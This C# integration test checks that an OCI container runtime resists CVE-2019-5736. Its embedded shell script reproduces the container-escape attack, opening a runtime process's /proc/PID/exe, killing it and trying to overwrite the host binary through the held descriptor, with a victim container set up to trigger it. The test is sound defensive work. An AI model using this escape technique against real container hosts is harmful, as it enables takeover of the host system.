using System.IO;
using FluentAssertions;
using OciRuntime.Tests.Support;
using Xunit;

namespace OciRuntime.Integration.Tests.Cve;

/// <summary>Overwriting the host's runtime through <c>/proc/PID/exe</c>, once it has been made to run inside a container.</summary>
/// <remarks>
/// Seen to fall when nothing executes itself again from a read-only mount: the file has become the attacker's script.
/// </remarks>
[Trait("Lane", "Integration")]
public sealed class Cve2019_5736 : ContainerTest
{
    private const string Privileged = """{"process":{"capabilities":{"bounding":["CAP_SYS_ADMIN","CAP_SYS_PTRACE","CAP_KILL","CAP_DAC_OVERRIDE"],"effective":["CAP_SYS_ADMIN","CAP_SYS_PTRACE","CAP_KILL","CAP_DAC_OVERRIDE"],"permitted":["CAP_SYS_ADMIN","CAP_SYS_PTRACE","CAP_KILL","CAP_DAC_OVERRIDE"]}}}""";

    [OcirunFact("in runc 1.1.5 the copy is in memory, and the FIFO is read before it is made")]
    public void The_executable_cannot_be_written_from_a_container()
    {
        // A copy: were the attack to succeed, it would hit what the other tests run.
        string executable = Directory + "/ocirun";
        ExecutableFile.Copy(Runtime.UnderTest.Path, executable);
        byte[] before = File.ReadAllBytes(executable);
        Runtime runtime = new(executable);

        Container attacker = NewContainer(Privileged, runtime: runtime);
        attacker.Bundle.Patch("""{"root":{"readonly":false}}""");
        attacker.Bundle.File("/evil", "#!/bin/sh\n").Script("""
            exec >/result
            until [ -e /go ]; do sleep 0.05; done
            for p in /proc/[0-9]*; do
                case $(readlink $p/exe) in
                */busybox | "") ;;
                *)
                    exec 9<$p/exe
                    kill -9 ${p#/proc/}
                    sleep 0.3
                    cat /evil >/proc/self/fd/9 && echo written
                    mount -o remount,rw,bind /proc/self/fd/9 && echo remounted
                    cat /evil >/proc/self/fd/9 && echo written
                    echo tried
                esac
            done
            """);
        // Detached: while somebody executes the file, the kernel lets nobody write it.
        attacker.Run("--detach").Succeeds();

        // The victim's program is the runtime itself, which waits for somebody to write its config.
        Container victim = NewContainer(Privileged, runtime: runtime);
        victim.Bundle.WithNamespace("pid", $"/proc/{attacker.Pid}/ns/pid").Args("/proc/self/exe", "run", "--bundle", "/bundle", "x");
        System.IO.Directory.CreateDirectory(victim.Bundle.Rootfs + "/bundle");
        Command.Run("mkfifo", victim.Bundle.Rootfs + "/bundle/config.json").Succeeds();
        victim.Run("--detach").Succeeds();
        attacker.Bundle.File("/go", "");

        attacker.WaitUntilStopped();
        File.ReadAllText(attacker.Bundle.Rootfs + "/result").Should().Be("tried\n");
        File.ReadAllBytes(executable).Should().Equal(before);
    }
}
